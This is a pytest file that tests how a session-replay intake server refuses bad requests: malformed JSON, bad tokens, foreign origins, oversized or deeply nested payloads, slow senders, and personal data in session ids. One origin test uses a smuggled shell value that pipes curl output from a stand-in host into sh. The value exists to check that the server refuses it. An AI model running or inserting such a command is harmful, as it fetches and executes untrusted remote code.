"""Every bad input to a real `replay serve` (subprocess, loopback): answered with its
status and named JSON error, and nothing stored - checked on the data folder itself."""
from __future__ import annotations

import contextlib
import gzip
import json
import logging
import socket
import time
from typing import Iterator

import pytest

from recorder.store import Store
from replay_tools.intake import IntakeServer, post_batch, replay_cli

ORIGIN = "http://127.0.0.1:9"


def now_ms() -> int:
    return int(time.time() * 1000)


def meta(ts: int) -> dict:
    return {"type": 4, "timestamp": ts, "data": {"href": "https://shop.test/", "width": 800,
                                                  "height": 600}}


def custom(ts: int, payload) -> dict:
    return {"type": 5, "timestamp": ts, "data": {"tag": "t", "payload": payload}}


def nested(depth: int):
    v: object = 1
    for _ in range(depth):
        v = {"a": v}
    return v


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    data = tmp_path_factory.mktemp("intake") / "data"
    srv = IntakeServer(data, args=("--max-pending", "1"))
    shop = srv.create_app("shop", origins=[ORIGIN])
    old = srv.create_app("old-site")
    assert replay_cli(data, "app", "revoke", "old-site").returncode == 0
    with srv:
        yield srv, shop, old


def assert_nothing_stored(srv) -> None:
    with Store.open(srv.data) as store:
        assert store.sessions() == []
    assert not list((srv.data / "segments").rglob("*.seg*"))


def refused(srv, shop, status, code, **kw):
    got, body = post_batch(srv.url, *shop, kw.pop("batch", None), **kw)
    assert (got, body.get("error")) == (status, code), body
    assert body["message"]
    assert_nothing_stored(srv)
    return body


def good(n=3, sid="visit"):
    t = now_ms()
    return {"session_id": sid, "events": [meta(t)] + [custom(t + i, {"i": i}) for i in range(n)]}


@pytest.mark.parametrize("raw, code", [
    (b'{"session_id": "s", "events": [', "malformed"),          # cut-off JSON
    (b"not json at all", "malformed"),
    (b'{"events": []}', "malformed"),                           # no session_id
    (b'{"session_id": "s", "events": "x"}', "malformed"),
    (b'{"session_id": "", "events": [{}]}', "malformed"),
    (b'{"session_id": "s", "events": []}', "malformed"),
    (b'{"session_id": "s", "events": [{"type": 3}]}', "invalid_event"),   # no timestamp
    # a new session of no type rrweb defines: an import refuses it, and so its export
    pytest.param(b'{"session_id": "s", "events": [{"type": "x", "data": {}, "timestamp": %d}]}'
                 % now_ms(), "invalid_event", id="no-rrweb-type"),   # (an id without the time:
    # pytest-xdist's workers must collect the same names)
    (b'{"session_id": "s", "batch_id": "", "events": [{}]}', "malformed"),
    (b'{"session_id": "s", "batch_id": "' + b"b" * 65 + b'", "events": [{}]}', "malformed"),
    (b'{"session_id": "s", "batch_id": 7, "events": [{}]}', "malformed"),
    # compact@4's body as an array: only a compact@4 batch may be one, whole
    (b'["compact@3", "s", null, [[5, 0, {}]]]', "malformed"),
    (b'[null, "s", null, [{}]]', "malformed"),
    (b'["compact@4", "s"]', "malformed"),
    (b'["compact@4", "s", null, [[3, 0, [1, "!"]]]]', "malformed"),
])
def test_malformed_bodies(server, raw, code):
    srv, shop, _ = server
    refused(srv, shop, 400, code, raw=raw)


def test_an_empty_body_is_said_to_be_empty(server):
    """(msgspec's own words were "not valid JSON (Input data was truncated)": a newcomer's)"""
    srv, shop, _ = server
    for raw in (b"", b"  \n"):
        body = refused(srv, shop, 400, "malformed", raw=raw)
        assert body["message"].startswith("the body is empty"), body



@pytest.mark.parametrize("sid, kind", [("4111111111111111", "card"),
                                       ("DE89370400440532013000", "iban"),
                                       # a dashed or labelled SSN (an audit found them
                                       # stored as folder names; `ssn:` was refused as no
                                       # file name, quoting the id)
                                       ("cust-078-05-1120", "ssn"),
                                       ("ssn:078-05-1120", "ssn")])
def test_a_session_id_holding_personal_data_is_refused_without_being_named(server, sid, kind):
    """A sender keying visits by a card or an account number (an email is no file name, and
    was refused already): the first batch was stored under a hash of the id, and every later
    batch of the visit looked for a session under the id as sent, found none and disagreed
    with the hashed one - a 503 and a traceback in the log per batch, retried for ever. It is
    refused like an id unusable as a file name, saying which kind of data, never the id."""
    srv, shop, _ = server
    body = refused(srv, shop, 400, "malformed", batch=good(sid=sid))
    assert kind in body["message"] and sid not in body["message"]


def test_wrong_token_revoked_token_wrong_app_and_no_token(server):
    """Refused - and without naming the application to a sender that could not prove it may
    send to it (its name is the operator's; the id is public, in every page's snippet)."""
    srv, shop, old = server
    bodies = [refused(srv, (shop[0], "rt_not-the-token"), 401, "bad_token", batch=good()),
              refused(srv, old, 401, "token_revoked", batch=good()),
              refused(srv, ("app_0000000000000000", shop[1]), 401, "unknown_app", batch=good()),
              refused(srv, (None, shop[1]), 401, "unknown_app", batch=good()),
              refused(srv, (old[0], shop[1]), 401, "bad_token", batch=good()),   # another app's token
              refused(srv, (shop[0], None), 401, "missing_token", batch=good()),
              refused(srv, shop, 403, "origin_not_allowed", batch=good(), origin="https://evil.test")]
    for body in bodies:
        assert "shop" not in json.dumps(body) and "old-site" not in json.dumps(body), body
    # said in the intake's log, so the operator sees a site sending with a bad token (it
    # logged nothing: an operator's tryout) - the codes, never what the requests held
    said = srv.log()
    for code in ("bad_token (HTTP 401)", "token_revoked (HTTP 401)", "unknown_app (HTTP 401)",
                 "missing_token (HTTP 401)", "origin_not_allowed (HTTP 403)"):
        assert f"refused a request: {code}" in said, said
    assert "rt_not-the-token" not in said
    # a token refused names the application the request named (each its own line), never
    # the token sent
    lines = said.splitlines()
    assert f"replay: warning: refused a request: bad_token (HTTP 401) - application shop" \
        f" ({shop[0]}): not its client token" in lines, said
    assert f"replay: warning: refused a request: bad_token (HTTP 401) - application old-site" \
        f" ({old[0]}): not its client token" in lines, said
    assert f"replay: warning: refused a request: token_revoked (HTTP 401) - application" \
        f" old-site ({old[0]}): its token was revoked (`replay --data {srv.data} app token" \
        f" {old[0]}` gives it a new one)" in lines, said
    assert shop[1] not in said and old[1] not in said
    # the operator (not the foreign page) is told how to allow an origin: the command as run
    # on this machine, its real data folder and all
    assert f"pages from https://evil.test may not send to application shop ({shop[0]}): allow" \
        f" them with `replay --data {srv.data} app origins {shop[0]} --add https://evil.test`" \
        in said, said
    # the application's name where its id belongs: said, without its id (the caller has
    # proved nothing), and the same as for a name no application has
    for name in ("shop", "no-such-app"):
        body = refused(srv, (name, shop[1]), 401, "unknown_app", batch=good())
        assert body["message"] == (f"no application has the id {name!r} here - ?app= takes the"
                                   " application id that `replay app create` printed (app_...),"
                                   " not its name"), body
        assert shop[0] not in json.dumps(body) and old[0] not in json.dumps(body)


def test_disallowed_origin_and_its_preflight(server):
    srv, shop, _ = server
    body = refused(srv, shop, 403, "origin_not_allowed", batch=good(),
                   origin="https://evil.test")
    # to the foreign page, a refusal and no more: not the application's id nor the command
    # that allows the origin (spelt out to whoever sent it, and said to the operator in the
    # log instead), nor the server's folder - and the same whether its token is right or not
    assert body == {"error": "origin_not_allowed", "message": "pages from https://evil.test"
                    " may not send to this application - the intake's operator allows a site's"
                    " origin"}, body
    assert refused(srv, (shop[0], "rt_not-the-token"), 403, "origin_not_allowed", batch=good(),
                   origin="https://evil.test") == body
    # an Origin that is no origin (a sandboxed frame, a file:// page, a host no browser
    # sends): refused, not a 500, and said as no origin - nothing of it in a command to run
    refused(srv, shop, 403, "origin_not_allowed", batch=good(), origin="null")
    shell = "https://a;{curl,evil.example}|sh;.example"
    assert "serve it from an http(s) origin" in refused(
        srv, shop, 403, "origin_not_allowed", batch=good(), origin=shell)["message"]
    # the refusal is readable by the page (its capture.js stops and says why): the preflight
    # lets the POST through, which refuses it before reading its body - nothing stored
    import urllib.error
    import urllib.request
    req = urllib.request.Request(f"{srv.url}/v1/events?app={shop[0]}", method="OPTIONS",
                                 headers={"Origin": "https://evil.test",
                                          "Access-Control-Request-Method": "POST"})
    with urllib.request.urlopen(req, timeout=10) as r:
        assert r.status == 204 and r.headers["Access-Control-Allow-Origin"] == "https://evil.test"
    post = urllib.request.Request(f"{srv.url}/v1/events?app={shop[0]}", method="POST",
                                  data=json.dumps(good()).encode(),
                                  headers={"Origin": "https://evil.test",
                                           "Authorization": f"Bearer {shop[1]}",
                                           "Content-Type": "application/json"})
    with pytest.raises(urllib.error.HTTPError) as e:
        urllib.request.urlopen(post, timeout=10)
    assert e.value.code == 403 and e.value.headers["Access-Control-Allow-Origin"] == "https://evil.test"
    assert json.loads(e.value.read())["error"] == "origin_not_allowed"
    assert_nothing_stored(srv)


@pytest.mark.parametrize("what", ["event_too_large", "too_many_attributes", "attribute_depth",
                                  "event_too_late"])
def test_each_per_event_limit(server, what):
    srv, shop, _ = server
    b = good()
    t = now_ms()
    bad = {"event_too_large": custom(t, "x" * (1024 * 1024)),
           "too_many_attributes": custom(t, {f"k{i}": i for i in range(1001)}),
           "attribute_depth": custom(t, nested(21)),
           "event_too_late": custom(t - 25 * 3600 * 1000, 1)}[what]
    b["events"].append(bad)
    body = refused(srv, shop, 400, what, batch=b)
    assert body["limit"] == {"event_too_large": 1024 * 1024, "too_many_attributes": 1000,
                             "attribute_depth": 20, "event_too_late": 24 * 3600 * 1000}[what]
    # which event: a sender can send the rest without it (capture.js does) - not for a
    # limit of time, which a visitor's clock set wrong breaks for every event alike
    if what == "event_too_late":
        assert "event" not in body
    else:
        assert body["event"] == len(b["events"]) - 1
    # the intake's log names the application whose page sent it (its operator's to look at)
    deadline = time.monotonic() + 10
    while f"{what} (HTTP 400)" not in srv.log() and time.monotonic() < deadline:
        time.sleep(0.1)
    said = [ln for ln in srv.log().splitlines() if f"{what} (HTTP 400)" in ln]
    assert said and said[0].endswith("- application shop"), said


def test_payload_over_5_mb_plain_and_compressed(server):
    srv, shop, _ = server
    t = now_ms()
    big = {"session_id": "s", "events": [custom(t, "y" * 900_000) for _ in range(6)]}
    assert refused(srv, shop, 413, "payload_too_large", batch=big)["limit"] == 5 * 1024 * 1024
    # gzip makes it small on the wire; it is measured once decompressed
    assert len(gzip.compress(json.dumps(big).encode())) < 100_000
    refused(srv, shop, 413, "payload_too_large", batch=big, encoding="gzip")


def test_truncated_gzip_and_unknown_encoding(server):
    srv, shop, _ = server
    body = gzip.compress(json.dumps(good()).encode())
    refused(srv, shop, 400, "bad_encoding", raw=body[: len(body) // 2], header_encoding="gzip")
    refused(srv, shop, 400, "bad_encoding", raw=b"plain text", header_encoding="zstd")
    refused(srv, shop, 415, "unsupported_encoding", raw=body, header_encoding="br")


def _slow_sender(srv, shop, body: bytes, share: float = 0.5) -> socket.socket:
    """A connection that sends the head of a batch and `share` of its body, then waits."""
    s = socket.create_connection(("127.0.0.1", srv.port), timeout=30)
    s.sendall((f"POST /v1/events?app={shop[0]} HTTP/1.1\r\nHost: x\r\n"
               f"Authorization: Bearer {shop[1]}\r\nContent-Type: application/json\r\n"
               f"Content-Length: {len(body)}\r\n\r\n").encode() + body[: int(len(body) * share)])
    return s


def _answer(s: socket.socket) -> tuple[int, dict]:
    """The status and JSON body of the answer on `s` (as much body as its Content-Length
    says: the connection may stay open)."""
    data = b""
    while True:
        head, sep, body = data.partition(b"\r\n\r\n")
        if sep:
            fields = dict(line.split(b": ", 1) for line in head.lower().split(b"\r\n")[1:])
            if len(body) >= int(fields.get(b"content-length", b"0")):
                return int(head.split()[1]), json.loads(body)
        chunk = s.recv(65536)
        assert chunk, f"closed without a whole answer: {data!r}"
        data += chunk


def test_bodies_still_arriving_hold_no_slot_and_a_cut_off_one_stores_nothing(server):
    """Senders still sending their bodies (here: 3, with --max-pending 1) are no load: a
    batch that has arrived whole is stored meanwhile. They took the worker's slots before -
    64 connections trickling a byte every 10 s had every real batch answered 429 for as long
    as they kept on. A request cut off mid-body stores nothing."""
    srv, shop, _ = server
    body = json.dumps(good(sid="slow")).encode()
    slow = [_slow_sender(srv, shop, body) for _ in range(3)]
    time.sleep(0.5)   # let the server start reading their bodies (no timing is asserted)
    status, answer = post_batch(srv.url, *shop, good(sid="whole"))
    assert (status, answer) == (202, {"accepted": 4})
    for s in slow:
        s.close()
    with Store.open(srv.data) as store:   # the next test starts from an empty store again
        assert [s.id for s in store.sessions()] == ["whole"]
        store.delete_session("whole")
    assert_nothing_stored(srv)


def test_a_body_that_does_not_arrive_in_time_is_408_and_not_stored(tmp_path):
    """Each body has --body-timeout seconds to arrive whole: then its sender is answered 408
    body_timeout (the house JSON error, the limit said), the connection is closed, nothing is
    stored - a trickling sender holds nothing for long (it had no deadline at all)."""
    srv = IntakeServer(tmp_path / "data", args=("--body-timeout", "1", "--max-pending", "1"))
    shop = srv.create_app("shop")
    with srv:
        slow = _slow_sender(srv, shop, json.dumps(good(sid="slow")).encode())
        with slow:
            status, answer = _answer(slow)
        assert (status, answer["error"], answer["limit"]) == (408, "body_timeout", 1)
        assert "1 s" in answer["message"]
        assert_nothing_stored(srv)
        assert post_batch(srv.url, *shop, good(sid="next"))[0] == 202


def test_a_batch_on_a_slow_uplink_arrives_however_long_it_takes(tmp_path):
    """An honest batch that keeps arriving is not cut off by --body-timeout: 300 KB at
    ~50 KB/s (6 s, past the 2 s given) is stored. A deadline for the whole body answered it
    408 every time it was sent again - capture.js sends the same batch, which no slow
    uplink could ever deliver in time (a reviewer's)."""
    srv = IntakeServer(tmp_path / "data", args=("--body-timeout", "2"))
    shop = srv.create_app("shop")
    with srv:
        body = json.dumps(good(sid="slow-link") | {"pad": "p" * 300_000}).encode()
        s = _slow_sender(srv, shop, body, share=0)
        with s:
            sent = 0
            while sent < len(body):
                s.sendall(body[sent: sent + 5_000])
                sent += 5_000
                time.sleep(0.1)
            status, answer = _answer(s)
        assert status == 202, answer
        with Store.open(srv.data) as store:
            assert [x.id for x in store.sessions()] == ["slow-link"]


def test_the_bodies_being_read_are_held_to_a_byte_budget(tmp_path):
    """A body still arriving is no load, but what has arrived of it is memory: past the
    worker's read budget (recorder.intake.app.READ_BUDGET_BYTES; here 1 MB) the body whose
    bytes passed it is answered 429 (the rest dropped as it comes) - a thousand 5 MB bodies at once had no bound
    once they stopped counting as pending. The budget is of bytes arrived: a small batch is
    stored meanwhile, and nothing of the big ones is."""
    srv = IntakeServer(tmp_path / "data", config={"read_budget": 1024 * 1024,
                                                  "body_timeout": 1, "max_pending": 64})
    shop = srv.create_app("shop")
    with srv:
        big = json.dumps(good(sid="big") | {"pad": "p" * 1_000_000}).encode()
        senders = [_slow_sender(srv, shop, big, share=0.6) for _ in range(2)]
        answers = []
        for s in senders:   # one passed the budget (429); the other's body never ended (408)
            with s:
                answers.append(_answer(s))
        assert sorted((st, a["error"]) for st, a in answers) == \
            [(408, "body_timeout"), (429, "overloaded")], answers
        assert post_batch(srv.url, *shop, good(sid="small"))[0] == 202
        with Store.open(srv.data) as store:
            assert [x.id for x in store.sessions()] == ["small"]


def test_session_over_its_event_limit(tmp_path):
    """10 M events cannot be posted in a test: the same check with a small limit, through
    uvicorn running the same app (configured as `replay serve` configures its workers)."""
    srv = IntakeServer(tmp_path / "data", config={"limits": {"max_session_events": 10}})
    shop = srv.create_app("shop")
    with srv:
        assert post_batch(srv.url, *shop, good(n=5, sid="v"))[0] == 202
        status, body = post_batch(srv.url, *shop, good(n=5, sid="v"))
        assert (status, body["error"], body["limit"]) == (400, "session_too_many_events", 10)
        with Store.open(srv.data) as store:
            assert [s.record_count for s in store.sessions()] == [6]


def test_a_batch_the_store_cannot_write_is_503_and_not_stored(server):
    """The store fails (here: a file sits where the session's segment folder goes): the
    client is told to send again, nothing is stored, and the next batch is fine."""
    srv, shop, _ = server
    blocker = srv.data / "segments" / "bl" / "blocked"
    blocker.parent.mkdir(parents=True, exist_ok=True)
    blocker.write_text("in the way")
    try:
        body = refused(srv, shop, 503, "not_stored", batch=good(sid="blocked"))
        assert "send it again" in body["message"]
    finally:
        blocker.unlink()
    # the log says why, in the system's words (it said only "was not stored")
    assert "a batch for application shop was not stored: Not a directory" in srv.log(), srv.log()
    assert post_batch(srv.url, *shop, good(sid="blocked"))[0] == 202
    with Store.open(srv.data) as store:
        assert [s.id for s in store.sessions()] == ["blocked"]
        store.delete_session("blocked")


@contextlib.contextmanager
def _logged(name: str) -> Iterator[list[str]]:
    """The messages logger `name` logs meanwhile, at INFO and up (as each worker of `replay
    serve` sets its loggers: app_from_env)."""
    lines: list[str] = []
    handler = logging.Handler()
    handler.emit = lambda rec: lines.append(rec.getMessage())
    logger = logging.getLogger(name)
    logger.addHandler(handler)
    level = logger.level
    logger.setLevel(logging.INFO)
    try:
        yield lines
    finally:
        logger.removeHandler(handler)
        logger.setLevel(level)


def test_refusals_are_logged_once_a_minute_per_code_with_a_count():
    """A flood of bad requests never floods the log: a code's first refusal at once, then one
    line a minute with how many came meanwhile."""
    from recorder.intake.app import Refusals

    now = [0.0]
    r = Refusals(clock=lambda: now[0])
    with _logged("recorder.intake.app") as lines:
        for t in (0, 1, 2, 30, 61, 62):
            now[0] = t
            r.note("bad_token", 401)
        r.note("payload_too_large", 413)
        # an application's refusals are its own: one site's does not hide another's (the
        # operator's hint names what to do for it)
        for app in ("app_a", "app_a", "app_b"):
            r.note("origin_not_allowed", 403, f"allow {app}'s", app)
    assert lines == ["refused a request: bad_token (HTTP 401)",
                     "refused a request: bad_token (HTTP 401); 3 more since the last line",
                     "refused a request: payload_too_large (HTTP 413)",
                     "refused a request: origin_not_allowed (HTTP 403) - allow app_a's",
                     "refused a request: origin_not_allowed (HTTP 403) - allow app_b's"]


def test_a_batch_asked_again_as_the_protocol_says_is_a_note_not_a_warning():
    """`unknown_text` (409) asks a page to send its batch again with its long texts whole -
    each worker's first visitor of a site gets one - and was logged as `replay: warning:
    refused a request`, which an operator took for a fault to look into (a support
    engineer's tryout): a note saying what it is, at most a line a minute as any refusal."""
    import logging as _logging

    from recorder.intake.app import Refusals
    now = [0.0]
    r = Refusals(clock=lambda: now[0])
    levels = []
    handler = _logging.Handler()
    handler.emit = lambda rec: levels.append(rec.levelno)
    _logging.getLogger("recorder.intake.app").addHandler(handler)
    try:
        with _logged("recorder.intake.app") as lines:
            for t in (0, 5, 61):
                now[0] = t
                r.note("unknown_text", 409, None, "app_a")
    finally:
        _logging.getLogger("recorder.intake.app").removeHandler(handler)
    said = ("asked a page to send its batch again: unknown_text (HTTP 409){} - it named long"
            " texts this worker does not hold yet, and sends them whole (a site's first visitor"
            " on each worker does)")
    assert lines == [said.format(""), said.format("; 1 more since the last line")]
    assert levels == [_logging.INFO, _logging.INFO]


def _clocked_arrivals():
    """An intake's Arrivals on a clock the test moves (`now[0]`, seconds)."""
    from recorder.intake.live import Arrivals

    now = [0.0]
    return Arrivals(clock=lambda: now[0]), now


def test_new_sessions_are_said_once_then_at_most_a_line_a_minute():
    """The intake said only refusals: its first new session is said at once, then at most one
    line a minute with how many began since (a busy site never floods the log)."""
    a, now = _clocked_arrivals()
    with _logged("recorder.intake.live") as lines:
        for t, app, sid in ((0, "shop", "s1"), (1, "shop", "s2"), (30, "blog", "s3"),
                            (61, "shop", "s4"), (62, "shop", "s5")):
            now[0] = t
            a.note(app, sid)
    assert lines == ["recording: session s1 of application shop began (each of its pages is"
                     " stored as it arrives)",
                     "recording: 3 new sessions since the last line (applications blog, shop)"]


def test_a_session_begun_after_a_line_is_said_as_its_minute_is_up():
    """A quiet site: the session that began after a line was said only when another one
    arrived - three minutes later in a site owner's tryout, who took it for not recorded. The
    worker's compaction ticks once a minute; the line comes with it."""
    a, now = _clocked_arrivals()
    with _logged("recorder.intake.live") as lines:
        a.note("shop", "s1")
        now[0] = 20
        a.note("shop", "s2")
        for t in (40, 59.9):   # ticks before the minute is up say nothing
            now[0] = t
            a.tick()
        assert len(lines) == 1
        now[0] = 60
        a.tick()
        now[0] = 200
        a.tick()               # nothing new since: nothing said
    assert lines[1:] == ["recording: 1 new session since the last line (application shop)"]


def test_the_sessions_begun_in_the_last_minute_are_said_as_the_intake_stops():
    """A support engineer's tryout: six sessions began, the log said four - the two of the
    intake's last minute were never said. A stopping worker says them whatever the minute."""
    a, now = _clocked_arrivals()
    with _logged("recorder.intake.live") as lines:
        a.note("shop", "s1")
        now[0] = 10
        a.note("shop", "s2")
        a.note("blog", "s3")
        a.tick()
        assert len(lines) == 1   # (the minute is not up)
        a.tick(last=True)
        a.tick(last=True)        # nothing new since: nothing said
    assert lines[1:] == ["recording: 2 new sessions since the last line (applications blog,"
                         " shop)"]


def _with_raw(batch: dict, **fields: str) -> bytes:
    """`batch` as JSON with `fields` added as JSON text as they are (Python's json cannot
    write 9,000 levels)."""
    text = json.dumps(batch)
    return (text[:-1] + "".join(f', "{k}": {v}' for k, v in fields.items()) + "}").encode()


def _log_from(srv) -> int:
    return srv.stderr_path.stat().st_size


def _logged_since(srv, mark: int) -> str:
    with open(srv.stderr_path, "rb") as f:
        f.seek(mark)
        return f.read().decode(errors="replace")


def _nested_json(depth: int) -> str:
    return '{"a": ' * depth + "1" + "}" * depth


@pytest.mark.parametrize("fields, code, limit", [
    # thousands of levels outside `events`: msgspec's RecursionError was a 503 "send it again
    # later" (and a traceback in the log) - a retrying sender retried for ever
    pytest.param({"context": _nested_json(9000)}, "attribute_depth", 20, id="context-9000"),
    pytest.param({"user": '{"id": "u", "more": %s}' % _nested_json(9000)}, "attribute_depth",
                 20, id="user-9000"),
    pytest.param({"later": _nested_json(9000)}, "attribute_depth", 20, id="unknown-key-9000"),
    # a context nesting 3,000 levels was stored, and broke `replay sessions --json`'s readers
    pytest.param({"context": _nested_json(3000)}, "attribute_depth", 20, id="context-3000"),
    pytest.param({"context": _nested_json(21)}, "attribute_depth", 20, id="context-21"),
    # an integer beyond 64 bits: MessagePack's OverflowError, a 503 (inside an event: a 400)
    pytest.param({"context": '{"orderId": 18446744073709552000}'}, "integer_out_of_range", 64,
                 id="context-int"),
    pytest.param({"context": '{"o": [-9223372036854775809]}'}, "integer_out_of_range", 64,
                 id="context-negative-int"),
    # a megabyte user.id was stored, in every listing of the session
    pytest.param({"user": json.dumps({"id": "u" * 1_000_000})}, "user_too_large", 1024,
                 id="user-id-1mb"),
    pytest.param({"user": json.dumps({"id": "u", "email": "e" * 1025})}, "user_too_large",
                 1024, id="user-email"),
    pytest.param({"context": json.dumps({"blob": "x" * 70_000})}, "context_too_large",
                 64 * 1024, id="context-70kb"),
])
def test_context_and_user_are_held_to_what_an_event_is(server, fields, code, limit):
    """A permanent mistake in a batch's context or user is a 400 that names the limit -
    never a 503 that tells the sender to retry - and nothing is stored."""
    srv, shop, _ = server
    mark = _log_from(srv)
    body = refused(srv, shop, 400, code, raw=_with_raw(good(), **fields))
    assert body["limit"] == limit
    assert "not_stored" not in _logged_since(srv, mark)


def test_context_and_user_within_the_limits_are_stored(server):
    srv, shop, _ = server
    raw = _with_raw(good(sid="fine"), context=_nested_json(19),
                    user=json.dumps({"id": "u" * 1024, "name": "n", "email": "a@b.c"}))
    assert post_batch(srv.url, *shop, None, raw=raw)[0] == 202
    with Store.open(srv.data) as store:
        assert [s.id for s in store.sessions()] == ["fine"]
        store.delete_session("fine")


@pytest.mark.parametrize("sid", ["中" * 86, "é" * 65], ids=["cjk-86", "latin-65"])
def test_a_session_id_is_measured_in_bytes(server, sid):
    """86 3-byte letters are 128 characters but 258 bytes: the folder could not be made
    ("File name too long"), a 503 retried for ever, and an empty folder was left behind."""
    srv, shop, _ = server
    mark = _log_from(srv)
    from recorder.intake.wire import MAX_SESSION_ID
    body = refused(srv, shop, 400, "malformed", batch=good(sid=sid))
    assert body["limit"] == MAX_SESSION_ID == 114 and "bytes" in body["message"]
    assert not [p for p in (srv.data / "segments").rglob("*") if sid[0] in p.name]
    assert "not_stored" not in _logged_since(srv, mark)


def test_refusals_quote_what_the_sender_chose_cut_short(server):
    """An unknown ?app= and Content-Encoding were said back whole (a megabyte header came
    back a megabyte, and was logged in a console): at most 64 characters of them now."""
    srv, shop, _ = server
    long = "z" * 5000
    status, body = post_batch(srv.url, long, shop[1], good())
    assert (status, body["error"]) == (401, "unknown_app")
    assert "z" * 64 in body["message"] and "z" * 65 not in body["message"]
    body = refused(srv, shop, 415, "unsupported_encoding", batch=good(), header_encoding=long)
    assert "z" * 64 in body["message"] and "z" * 65 not in body["message"]
